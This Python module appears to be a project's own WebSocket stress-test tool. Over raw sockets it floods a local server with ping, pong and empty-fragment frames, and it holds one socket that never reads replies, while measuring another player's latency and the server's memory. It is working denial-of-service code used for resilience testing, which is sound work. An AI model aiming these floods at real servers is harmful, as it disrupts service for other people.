"""Flood a server with WebSocket control frames and empty fragments. Eight sockets of one guest send as fast as they can
while another guest plays. Then one socket sends pings and never reads the answers.

    python -m tools.attacks.frames --seconds 40
"""

from __future__ import annotations

import asyncio
import socket
import time
from contextlib import suppress

from websockets.client import ClientProtocol
from websockets.frames import Frame, Opcode
from websockets.uri import parse_uri

from tools.attacks.victim import Guest, Target, Victim, answer_times, run, summary

SOCKETS = 8
AT_ONCE = 2000  # frames in one write
KINDS = {
    "pings": (Opcode.PING, b"", True),
    "long pings": (Opcode.PING, b"x" * 125, True),
    "pongs": (Opcode.PONG, b"", True),
    "fragments": (Opcode.CONT, b"", False),
}
FIRST_FRAGMENT = Frame(Opcode.TEXT, b"", False).serialize(mask=True)


def frames_of(kind: str) -> bytes:
    """Return many frames of a kind, for one write."""
    opcode, data, is_last = KINDS[kind]
    return Frame(opcode, data, is_last).serialize(mask=True) * AT_ONCE


def open_raw(served: Target, guest: Guest, table: str) -> socket.socket:
    """Open a WebSocket as a plain socket, which neither answers the server nor waits for it."""
    line = socket.create_connection(("127.0.0.1", served.port))
    client = ClientProtocol(parse_uri(served.url(table)))
    request = client.connect()
    request.headers["Cookie"] = guest.cookies
    request.headers["Origin"] = served.address
    client.send_request(request)
    line.sendall(b"".join(client.data_to_send()))
    line.recv(4096)
    return line


def pour(line: socket.socket, data: bytes, until: float, reads: bool) -> int:
    """Send the same bytes repeatedly, and return how many bytes the server accepted."""
    accepted = 0
    line.settimeout(0.5)
    with suppress(OSError):
        while time.monotonic() < until:
            with suppress(TimeoutError):
                accepted += line.send(data)
            if reads:
                line.setblocking(False)
                with suppress(BlockingIOError):
                    line.recv(1 << 20)
                line.settimeout(0.5)
    return accepted


async def flood(served: Victim, kind: str, seconds: float) -> None:
    ana, eva = Guest(served.address), Guest(served.address)
    table = ana.open_table()
    lines = [open_raw(served, eva, table) for _socket in range(SOCKETS)]
    if kind == "fragments":
        for line in lines:
            line.sendall(FIRST_FRAGMENT)
    until = time.monotonic() + seconds
    loop = asyncio.get_running_loop()
    work = [loop.run_in_executor(None, pour, line, frames_of(kind), until, True) for line in lines]
    times = await answer_times(served, ana, table, seconds)
    accepted = sum(await asyncio.gather(*work))
    for line in lines:
        line.close()
    print(f"{kind}: {summary(times)}; {accepted:,} bytes taken; {served.mebibytes:.0f} MiB")


async def never_read(served: Victim, seconds: float) -> None:
    ana, eva = Guest(served.address), Guest(served.address)
    table, before = ana.open_table(), served.mebibytes
    line = open_raw(served, eva, table)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    loop = asyncio.get_running_loop()
    until = time.monotonic() + seconds
    work = loop.run_in_executor(None, pour, line, frames_of("long pings"), until, False)
    times = await answer_times(served, ana, table, seconds)
    await work
    print(f"a socket that never reads: {summary(times)}; {before:.0f} MiB before, {served.mebibytes:.0f} MiB after")
    line.close()


async def attack(served: Victim, seconds: float) -> None:
    """Run the four attacks in sequence, each for a quarter of the time."""
    ana = Guest(served.address)
    quiet = await answer_times(served, ana, ana.open_table(), 2)
    print(f"quiet: {summary(quiet)}; {served.mebibytes:.0f} MiB")
    for kind in ("pings", "pongs", "fragments"):
        await flood(served, kind, seconds / 4)
    await never_read(served, seconds / 4)


if __name__ == "__main__":
    run(attack, __doc__, seconds=40)
